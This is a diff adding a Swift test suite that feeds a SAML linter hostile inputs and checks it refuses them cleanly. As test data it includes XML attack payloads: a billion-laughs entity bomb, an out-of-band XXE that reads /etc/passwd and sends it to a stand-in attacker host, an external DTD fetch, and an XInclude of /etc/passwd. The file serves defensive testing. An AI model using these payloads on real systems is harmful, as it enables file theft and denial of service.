@@ -1,0 +1,132 @@
+import Foundation
+import SAMLLint
+import Testing
+
+/// Inputs meant to hurt: each must end with a clear finding or error, fast and in bounded memory,
+/// and never stop the other inputs of the run from being linted.
+struct HostileCase: CustomTestStringConvertible, Sendable {
+    let name: String
+    let make: @Sendable () -> [UInt8]
+    /// The rule id the input must produce, or nil when it must lint without an input error.
+    let expected: String?
+    var testDescription: String { name }
+
+    static let response = ExampleSAML.response(attributes: [.init("email", ["jane@example.com"])])
+
+    static let all: [HostileCase] = [
+        HostileCase(name: "billion laughs", make: { Array(billionLaughs.utf8) }, expected: "input/doctype-refused"),
+        HostileCase(name: "quadratic blow-up", make: {
+            let big = String(repeating: "a", count: 50_000)
+            let uses = String(repeating: "&a;", count: 50_000)
+            return Array("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"\(big)\">]><r>\(uses)</r>".utf8)
+        }, expected: "input/doctype-refused"),
+        HostileCase(name: "external DTD", make: { Array("<!DOCTYPE r SYSTEM \"http://attacker.invalid/a.dtd\"><r/>".utf8) }, expected: "input/doctype-refused"),
+        HostileCase(name: "parameter entities", make: {
+            Array("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % a SYSTEM \"file:///etc/passwd\"><!ENTITY % b \"<!ENTITY c SYSTEM 'http://attacker.invalid/?%a;'>\">%b;]><r>&c;</r>".utf8)
+        }, expected: "input/doctype-refused"),
+        HostileCase(name: "XInclude is not processed", make: {
+            Array(response.replacingOccurrences(of: "</samlp:Response>", with: "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/></samlp:Response>").utf8)
+        }, expected: nil),
+        HostileCase(name: "100,000-deep nesting", make: {
+            Array((String(repeating: "<a>", count: 100_000) + String(repeating: "</a>", count: 100_000)).utf8)
+        }, expected: "input/malformed-xml"),
+        HostileCase(name: "100 MB attribute value", make: {
+            let head = Array(response.replacingOccurrences(of: "jane@example.com", with: "@@").utf8)
+            let cut = head.firstIndex(of: UInt8(ascii: "@"))!
+            return Array(head[..<cut]) + [UInt8](repeating: UInt8(ascii: "x"), count: 100 << 20) + Array(head[(cut + 2)...])
+        }, expected: "input/too-large"),
+        HostileCase(name: "1 million attributes", make: {
+            let attributes = String(repeating: "<saml:Attribute Name=\"a\"><saml:AttributeValue>v</saml:AttributeValue></saml:Attribute>", count: 1_000_000)
+            return Array(response.replacingOccurrences(of: "<saml:AttributeStatement>", with: "<saml:AttributeStatement>" + attributes).utf8)
+        }, expected: "input/too-large"),
+        HostileCase(name: "20,000 distinct attributes within the limit", make: {
+            let attributes = (0..<20_000).map { "<saml:Attribute Name=\"a\($0)\"><saml:AttributeValue>v\($0)</saml:AttributeValue></saml:Attribute>" }.joined()
+            return Array(response.replacingOccurrences(of: "<saml:AttributeStatement>", with: "<saml:AttributeStatement>" + attributes).utf8)
+        }, expected: nil),
+        HostileCase(name: "invalid UTF-8", make: {
+            var bytes = Array(response.utf8)
+            let index = bytes.firstIndex(of: UInt8(ascii: "j"))!
+            bytes[index] = 0xC3
+            bytes[index + 1] = 0x28
+            return bytes
+        }, expected: "input/malformed-xml"),
+        HostileCase(name: "UTF-16 with BOM", make: {
+            [0xFF, 0xFE] + Array(("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + response).utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
+        }, expected: nil),
+        HostileCase(name: "NUL bytes", make: { Array("<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">\u{0}\u{0}</samlp:Response>".utf8) }, expected: "input/malformed-xml"),
+        HostileCase(name: "truncated base64", make: {
+            let encoded = Data(response.utf8).base64EncodedString()
+            return Array(encoded.prefix(encoded.count / 2 + 1).utf8)
+        }, expected: "input/malformed-xml"),
+        HostileCase(name: "base64 of binary junk", make: { Array(Data((0..<3000).map { UInt8(($0 * 7919) % 251) }).base64EncodedString().utf8) }, expected: "input/undecodable"),
+        HostileCase(name: "empty file", make: { [] }, expected: "input/malformed-xml"),
+        HostileCase(name: "whitespace only", make: { Array("  \n\n\t ".utf8) }, expected: "input/malformed-xml"),
+    ]
+
+    static let billionLaughs = """
+        <?xml version="1.0"?>
+        <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+        <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+        <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
+        <lolz>&lol9;</lolz>
+        """
+}
+
+@Suite("Hostile inputs")
+struct HostileInputTests {
+    @Test("ends with a clear outcome, and the next input is still linted", arguments: HostileCase.all)
+    func hostile(_ hostile: HostileCase) throws {
+        let bytes = hostile.make()
+        let linter = Linter(context: LintContext(now: TestSupport.fixedNow))
+        let good = Array(HostileCase.response.utf8)
+        let start = Date()
+        let report = linter.lint(inputs: [.memory(name: "hostile", bytes: bytes), .memory(name: "good", bytes: good)], parallel: false)
+        let seconds = Date().timeIntervalSince(start)
+        print("\(hostile.name): \(String(format: "%.3f", seconds)) s, outcome \(report.inputs[0].error?.ruleId ?? "linted")")
+        #expect(report.inputs.count == 2)
+        if let expected = hostile.expected {
+            #expect(report.inputs[0].error?.ruleId == expected, "\(hostile.name): \(String(describing: report.inputs[0].error))")
+            #expect(report.findings.contains { $0.ruleId == expected && $0.location.path == "hostile" })
+            #expect(report.exitCode(failOn: .error) == 2)
+        } else {
+            #expect(report.inputs[0].error == nil, "\(hostile.name): \(String(describing: report.inputs[0].error))")
+        }
+        #expect(report.inputs[1].error == nil && report.inputs[1].messages.count == 1, "the good input after it was not linted")
+    }
+
+    @Test func symlinkLoopInAFolderDoesNotHang() throws {
+        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("samllint-loop-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(at: folder.appendingPathComponent("a"), withIntermediateDirectories: true)
+        try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("a/loop").path, withDestinationPath: folder.path)
+        try Data(HostileCase.response.utf8).write(to: folder.appendingPathComponent("a/r.xml"))
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let sources = FileDiscovery().sources(for: [folder.path])
+        #expect(sources.count == 1)
+    }
+
+    @Test func fifoAndDanglingLinksAreReportedNotRead() throws {
+        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("samllint-fifo-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let fifo = folder.appendingPathComponent("pipe.xml").path
+        #expect(mkfifo(fifo, 0o600) == 0)
+        let dangling = folder.appendingPathComponent("gone.xml").path
+        try FileManager.default.createSymbolicLink(atPath: dangling, withDestinationPath: "/nonexistent/samllint")
+        let linter = Linter(context: LintContext(now: TestSupport.fixedNow))
+        let report = linter.lint(inputs: [.file(fifo), .file(dangling)])
+        #expect(report.inputs.map { $0.error?.ruleId } == ["input/unreadable", "input/unreadable"])
+    }
+
+    @Test func parallelAndSerialRunsGiveTheSameBytes() throws {
+        guard let root = TestSupport.corpusRoot else {
+            print("skipped: ../shared/corpus is absent")
+            return
+        }
+        let sources = FileDiscovery().sources(for: [root.path])
+        let linter = Linter(context: LintContext(now: TestSupport.fixedNow))
+        let parallel = JSONReporter().render(linter.lint(inputs: sources, parallel: true), options: ReportOptions())
+        let serial = JSONReporter().render(linter.lint(inputs: sources, parallel: false), options: ReportOptions())
+        #expect(parallel == serial)
+        #expect(sources.count > 500)
+    }
+}
